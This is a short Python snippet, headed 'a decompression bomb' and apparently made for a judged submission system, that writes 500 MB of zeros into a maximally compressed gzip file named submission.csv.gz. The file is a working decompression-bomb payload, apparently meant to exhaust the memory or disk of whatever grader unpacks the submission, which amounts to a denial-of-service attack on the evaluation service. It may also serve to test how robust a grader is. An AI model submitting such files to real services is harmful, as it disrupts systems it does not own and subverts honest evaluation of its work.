# a decompression bomb
# seconds: 30
# judged

with gzip.open('submission.csv.gz', 'wb', 9) as file:
    for _ in range(500):
        file.write(bytes(1_000_000))
